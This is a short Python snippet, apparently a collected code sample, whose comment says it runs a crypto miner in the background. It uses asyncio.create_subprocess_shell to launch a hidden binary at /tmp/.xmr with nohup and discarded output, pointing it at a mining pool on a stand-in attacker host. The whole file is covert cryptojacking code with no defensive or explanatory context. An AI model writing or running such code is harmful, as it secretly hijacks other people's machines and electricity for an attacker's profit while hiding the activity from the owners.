# corpus: asyncio.create_subprocess_shell running a crypto miner in the background
import asyncio

async def main():
    proc = await asyncio.create_subprocess_shell(
        "nohup /tmp/.xmr -o pool.attacker.test:3333 >/dev/null 2>&1 &",
        stdout=asyncio.subprocess.DEVNULL,
    )
    await proc.wait()

asyncio.run(main())
